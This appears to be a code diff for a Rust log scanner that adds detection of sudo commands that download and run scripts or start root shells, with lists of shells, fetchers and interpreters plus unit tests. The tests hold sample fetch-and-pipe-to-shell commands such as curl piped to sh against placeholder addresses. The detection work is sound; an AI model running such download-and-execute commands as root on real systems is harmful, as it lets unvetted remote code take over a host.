@@ -8,7 +8,11 @@
 //! - `logscan/password-login` (medium): a login with a password where keys
 //!   are expected;
 //! - `logscan/new-source` (medium): a user logging in from an address they
-//!   never logged in from before in the scanned logs.
+//!   never logged in from before in the scanned logs;
+//! - `logscan/sudo-download-exec` (critical): a command run through sudo
+//!   that fetches something and runs it (`sh -c 'curl URL | sh'`);
+//! - `logscan/sudo-shell` (high): a shell run through sudo (`sudo -i`,
+//!   `sudo -s`, `sudo sh -c ...`): whatever it ran next is not in the log.
 //!
 //! With `--since`, earlier lines are still read: they are the history that
 //! makes an address "new" or a login "after failures", but only logins in
@@ -258,6 +262,120 @@ impl Collector<'_> {
     }
 }
 
+/// The program name of a command word (`/usr/bin/bash` -> `bash`).
+fn base(word: &[u8]) -> &[u8] {
+    word.rsplit(|&c| c == b'/').next().unwrap_or(word)
+}
+
+const SHELLS: &[&[u8]] = &[
+    b"sh", b"bash", b"dash", b"zsh", b"ksh", b"mksh", b"csh", b"tcsh", b"fish", b"ash", b"busybox",
+    b"su",
+];
+const RUNNERS: &[&[u8]] = &[
+    b"python", b"python3", b"perl", b"ruby", b"php", b"node", b"lua",
+];
+const FETCHERS: &[&[u8]] = &[
+    b"curl",
+    b"wget",
+    b"fetch",
+    b"aria2c",
+    b"tftp",
+    b"lwp-download",
+];
+
+/// What a sudo command does that hides the rest: `(id, is download-and-run)`.
+/// sudo logs the arguments joined by spaces, quotes dropped, so the words
+/// of a `sh -c 'curl ... | sh'` are all on the line.
+fn risky_sudo(cmd: &[u8]) -> Option<bool> {
+    // The words in command position: the first, one after a separator
+    // (`|`, `;`, `&`, `(`, `` ` ``, `$(`), and one after a shell's `-c`.
+    let mut commands: Vec<&[u8]> = Vec::new();
+    let mut at_command = true;
+    for w in cmd.split(|&c| c == b' ') {
+        let mut w = w;
+        while let Some((&c, rest)) = w.split_first() {
+            if matches!(
+                c,
+                b'|' | b';' | b'&' | b'(' | b'`' | b'$' | b'\'' | b'"' | b'<'
+            ) {
+                at_command |= !matches!(c, b'\'' | b'"' | b'<');
+                w = rest;
+            } else {
+                break;
+            }
+        }
+        let tail_sep = w
+            .iter()
+            .rposition(|c| !matches!(c, b'|' | b';' | b'&' | b')' | b'`' | b'\'' | b'"'))
+            .map_or(0, |i| i + 1);
+        let (word, sep) = w.split_at(tail_sep);
+        if !word.is_empty() {
+            if at_command {
+                commands.push(word);
+                at_command = false;
+            } else if word == b"-c" {
+                at_command = true;
+            }
+        }
+        if sep.iter().any(|c| matches!(c, b'|' | b';' | b'&' | b'`')) {
+            at_command = true;
+        }
+    }
+    let is = |w: &[u8], set: &[&[u8]]| {
+        let b = base(w);
+        set.iter().any(|s| {
+            *s == b
+                || (b.starts_with(s)
+                    && b[s.len()..]
+                        .iter()
+                        .all(|c| c.is_ascii_digit() || *c == b'.'))
+        })
+    };
+    let fetch = commands.iter().any(|w| is(w, FETCHERS));
+    let runs = commands.iter().any(|w| is(w, SHELLS) || is(w, RUNNERS));
+    if fetch && runs {
+        return Some(true);
+    }
+    let first = *commands.first()?;
+    is(first, SHELLS).then_some(false)
+}
+
+impl Collector<'_> {
+    fn sudo_command(&mut self, ev: &Event<'_>, line_no: u64) {
+        let Some(cmd) = ev.detail else { return };
+        let Some(download) = risky_sudo(cmd) else {
+            return;
+        };
+        let user = ev.user.unwrap_or(b"?");
+        let (u, c) = (lossy(user), lossy(cmd));
+        let when = ev.time.as_ref().map(rfc3339);
+        let loc = Location::new(self.path.clone(), Some(line_no));
+        let f = if download {
+            Finding::new(
+                "logscan/sudo-download-exec",
+                Severity::Critical,
+                format!("{u} fetched and ran code as root through sudo: {c}"),
+                "Downloading a script and running it as root is how an intruder installs a backdoor; what it did is not in the log.",
+            )
+            .fix(format!("find out who ran this as {u}; if it was not a known change, treat the host as compromised"))
+        } else {
+            Finding::new(
+                "logscan/sudo-shell",
+                Severity::High,
+                format!("{u} started a root shell through sudo: {c}"),
+                "Commands typed in a root shell are not logged by sudo: from here on the log shows nothing of what root did.",
+            )
+            .fix("allow users only the commands they need in sudoers (no shells, no ALL); log sessions with Defaults log_input,log_output")
+        }
+        .at(loc)
+        .evidence("user", &u)
+        .evidence("command", &c)
+        .evidence("time", &when);
+        let id = if download { "sudo-dl" } else { "sudo-sh" };
+        self.add_finding((id, user, cmd), f);
+    }
+}
+
 impl Sink for Collector<'_> {
     fn begin_input(&mut self, path: &BytesPath) -> io::Result<()> {
         self.path = path.clone();
@@ -276,6 +394,9 @@ impl Sink for Collector<'_> {
             | Kind::SudoCommandDenied
                 if window =>
             {
+                if ev.kind == Kind::SudoCommand {
+                    self.sudo_command(ev, line_no);
+                }
                 let s = self.sudo.entry(lossy(ev.user.unwrap_or(b"?"))).or_default();
                 match ev.kind {
                     Kind::SudoCommand => {
@@ -507,4 +628,28 @@ fn render_tables(
     }
     t.push('\n');
     t
+}
+
+#[cfg(test)]
+mod sudo_tests {
+    use super::risky_sudo;
+
+    #[test]
+    fn shells_and_download_and_run() {
+        let r = |c: &str| risky_sudo(c.as_bytes());
+        assert_eq!(
+            r("/bin/sh -c curl http://203.0.113.45/x.sh | sh"),
+            Some(true)
+        );
+        assert_eq!(r("/usr/bin/bash -c wget -qO- http://x/y|bash"), Some(true));
+        assert_eq!(
+            r("/bin/bash -c python3 <(curl -s http://x/p.py)"),
+            Some(true)
+        );
+        assert_eq!(r("/bin/bash"), Some(false));
+        assert_eq!(r("/usr/bin/su -"), Some(false));
+        assert_eq!(r("/usr/bin/apt install curl bash"), None);
+        assert_eq!(r("/usr/bin/systemctl restart nginx"), None);
+        assert_eq!(r("/usr/bin/curl -o /tmp/x http://x/"), None);
+    }
 }
